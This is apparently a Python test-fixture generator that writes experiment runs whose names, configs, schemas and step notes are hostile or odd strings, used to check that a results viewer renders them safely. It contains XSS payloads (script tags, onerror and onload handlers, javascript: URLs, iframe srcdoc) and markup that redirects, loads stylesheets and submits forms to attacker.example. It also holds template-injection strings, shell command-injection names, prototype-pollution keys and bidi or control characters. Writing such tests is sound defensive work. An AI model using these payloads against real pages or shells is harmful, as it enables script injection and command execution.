"""Records twenty runs and more whose every text is a stranger's attack or oddity: `hostile_runs.py RESULTS_DIR`.

Prints `{"texts": {RUN: [TEXT, …]}, "typed": [RUN, …]}`: what has to be readable in the view of each run, and the runs whose names
a shell would obey. Python's standard library only.
"""

import gzip
import json
import re
import sys
import unicodedata
from pathlib import Path

# Each of these, if anything of it ran, would leave `ran` in the window or ask for an address.
RUN = "window.ran=(window.ran||0)+1"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "end-of-data": f"</script><script>{RUN}</script>",
    "comment": f"<!--<script>{RUN}//--></script><script>{RUN}</script>",
    "attribute": f"\"'><img src=x onerror=\"{RUN}\"><svg onload='{RUN}'>",
    "handler": f"\" autofocus onfocus=\"{RUN}\" tabindex=0 onmouseover=\"{RUN}\" x=\"",
    "address": f"javascript:{RUN}//https://attacker.example/",
    "frame": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><object data=\"data:text/html,<script>{RUN}</script>\">",
    "style": "</style><style>*{display:none!important}</style>;background:url(https://attacker.example/c)",
    "base": "<base href=https://attacker.example/><meta http-equiv=refresh content='0;url=https://attacker.example/'>"
            "<link rel=stylesheet href=https://attacker.example/s.css><form action=https://attacker.example/><input name=q autofocus>",
    "template": "${" + RUN + "} {{constructor.constructor('" + RUN + "')()}} `${" + RUN + "}` <%= 1 %> #{1}",
    "entities": "&lt;script&gt; &amp;amp; &#x3c;b&#x3e; &nbsp; %3Cscript%3E \\x3cscript\\x3e \\u003cscript\\u003e",
    "ids": "report-data\" id=\"report-data\"><form id=document name=cookie><img name=getElementById id=body>",
}
ODD = {
    "right-to-left": "\u202egnp.exe\u202c \u2066abc\u2069 \u200fשלום\u200e \u061c العربية",
    "invisible": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\U000e0041h" + "z\u0301\u0302\u0303\u0304\u0305" * 40,
    "line-ends": "one\u2028two\u2029three\u0085four\rfive\nsix\tseven",
    "controls": "".join(map(chr, [*range(32), *range(127, 160)])) + "\ufffe\uffff",
    "shell": "'; touch ran; echo '$(touch ran)`touch ran`\n!! ~ * ? -rf",
}
# What a shell, a program's options, or a reader of a path would make of a name.
NAMES = {"shell": "a'; touch ran; $(touch ran)`touch ran` &'", "option": "--help", "blanks": "  two  words", "reversed": "\u202egnp.exe",
         "other-letters": "🧪 é שלום", "percent": "%2e%2e%00#q=1&run=x", "braces": "{{constructor}}${1}"}
PROTOTYPE = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "length", "0", "-1", ""]
LONG = 1_000_000
EDGES = [0.0, -0.0, 5e-324, 1.7976931348623157e308, -1.7976931348623157e308, float("nan"), float("inf"), float("-inf")]


def readable(text):
    """What of a text has to stand in a page as it is: its longest stretch in which all is seen."""
    stretches = re.split("[\x00-\x1f\x7f-\x9f]|[^\x20-\x7e\u00a1-\u00ac\u00ae-\u02ff\u0590-\u05ff]+", unicodedata.normalize("NFC", text))
    return " ".join(max(stretches, key=len).split())


def write_lines(path, rows):
    with gzip.open(path, "wt", compresslevel=1) as out:
        out.writelines(json.dumps(row) + "\n" for row in rows)


def write_run(results, experiment, run_id, schema, episodes, config, text):
    """`episodes`: pairs of an id and the rows' own members, one a step."""
    directory = results / experiment / run_id
    directory.mkdir(parents=True)
    meta = {"schema_version": "2", "run_id": run_id, "experiment": experiment, "start_time": text[:200], "env_config": config,
            "package_version": text, "git_sha": text, "simulator": text, "simulator_version": text, "extra": {text[:60]: text},
            "system": {"host": text}}
    (directory / "run.json").write_text(json.dumps(meta))
    (directory / "schema.json").write_text(json.dumps(schema))
    rows = []
    for episode, steps in episodes:
        for at, members in enumerate(steps, 1):
            rows.append({"episode_id": episode, "step": at, "terminated": at == len(steps), "truncated": False, **members})
    write_lines(directory / "steps.jsonl.gz", rows)
    if "success" not in schema["episodes"]:
        return
    summaries = [{"episode_id": episode, "terminated": True, "truncated": False, "total_steps": len(steps), "success": at % 2 == 0,
                  "total_reward": sum(step["reward"] for step in steps), "score": float(at)}
                 for at, (episode, steps) in enumerate(episodes)]
    write_lines(directory / "episodes.jsonl.gz", summaries)


def schema_for(text, lines=("x", "y")):
    columns = {name: {"dtype": "float64", "finite": False, "nullable": True, "unit": text[:2000], "description": text[:2000]}
               for name in ("x", "y", *(line for line in lines if line not in "xy"))}
    steps = {"reward": {"dtype": "float64", "finite": False}, "note": {"dtype": "string"}, "seed": {"dtype": "int64"}, **columns}
    episodes = {"success": {"dtype": "bool"}, "score": {"dtype": "float64", "metrics": ["mean", "max"], "unit": text[:2000]}}
    return {"format": 1, "name": text[:2000], "description": text[:2000], "steps": steps, "episodes": episodes,
            "plot": {"path": ["x", "y"], "lines": list(lines)}}


def steps_of(text, number, of=12, lines=("x", "y"), value=float):
    return [{"reward": value(at), "note": text[:200], "seed": number, **{name: value(at * number) for name in ("x", "y", *lines)}}
            for at in range(of)]


def write_text_run(results, experiment, run_id, text, config=None):
    ids = [text, f"{text} 2", f"3{text}"]
    episodes = [(episode, steps_of(text, number)) for number, episode in enumerate(ids, 1)]
    mark = f"mark-{len(experiment)}-{len(text)}"
    config = {"mark": mark, "text": text, text: text, "deep": {text: [text, {text: None}]}, "plain": 1.5, **(config or {})}
    write_run(results, experiment, run_id, schema_for(text), episodes, config, text)
    return [mark, readable(text)]


def write_all(results):
    texts = {}
    for name, text in {**ATTACKS, **ODD}.items():
        texts[f"{name}/hostile"] = write_text_run(results, name, "hostile", text)
    # Units are a part of a column's type, so each run has an experiment of its own.
    for text in NAMES.values():
        texts[f"{text}/{text}"] = write_text_run(results, text, text, text)

    # Names that programs of JavaScript have a meaning for, as columns, metrics and keys.
    names = [name for name in PROTOTYPE if name.isidentifier()]
    schema = schema_for("1", names)
    episodes = [(name, steps_of(name, at, lines=names)) for at, name in enumerate(PROTOTYPE[:-1], 1)]
    config = {name: {name: f"{name} of a run"} for name in PROTOTYPE} | {"mark": "mark-prototype"}
    write_run(results, "__proto__", "constructor", schema, episodes, config, "__proto__")
    texts["__proto__/constructor"] = ["mark-prototype", "valueOf of a run", "constructor of a run"]

    # Every number that is none, and those at the edges.
    def edge(at):
        return EDGES[int(at) % len(EDGES)]

    for run_id, value in [("edges", edge), ("only-nan", lambda _: float("nan"))]:
        config = {"mark": "mark-numbers", "nan": float("nan"), "most": float("inf"), "least": float("-inf"),
                  "list": EDGES, "big": 10**400, "fine": 0.1 + 0.2, "text": "NaN"}
        schema = schema_for("m")
        # Without summaries of its own, which have to be finite: they are made of the steps.
        schema["episodes"] = {"end_x": {"dtype": "float64", "finite": False, "nullable": True, "equals": "last(x)",
                                        "metrics": ["mean", "min", "max"]}}
        episodes = [(f"e{number}", steps_of("n", number, value=value)) for number in range(1, 9)]
        write_run(results, "numbers", run_id, schema, episodes, config, "numbers")
        texts[f"numbers/{run_id}"] = ["mark-numbers", "NaN", "-Infinity", "0.30000000000000004"]
    return texts


def write_long(results):
    """A million characters in each text that may have as many, and in no blank to break a line at."""
    config = {"mark": "mark-long", "value": "v" * LONG, "k" * LONG: 1, "markup": "<b>" * (LONG // 3), "list": list(range(20_000))}
    episodes = [("e" * LONG, steps_of("w" * 200, 1)), ("é" * LONG, steps_of("n", 2))]
    run_id = "l" * 250
    write_run(results, "long", run_id, schema_for("u" * 2000), episodes, config, "t" * LONG)
    return {f"long/{run_id}": ["mark-long", "v" * 200, "k" * 200]}


def main():
    results = Path(sys.argv[1])
    texts = {**write_all(results), **write_long(results)}
    # Halves of characters, as escapes: in Python's JSON they stay what they are.
    halves = {"halves": "\ud800 \udfff <b>\udc00", "\udfff\ud800": 1}
    texts["halves/hostile"] = write_text_run(results, "halves", "hostile", "halves", halves)
    print(json.dumps({"texts": texts, "typed": [f"{name}/{name}" for name in NAMES.values()]}))


if __name__ == "__main__":
    main()
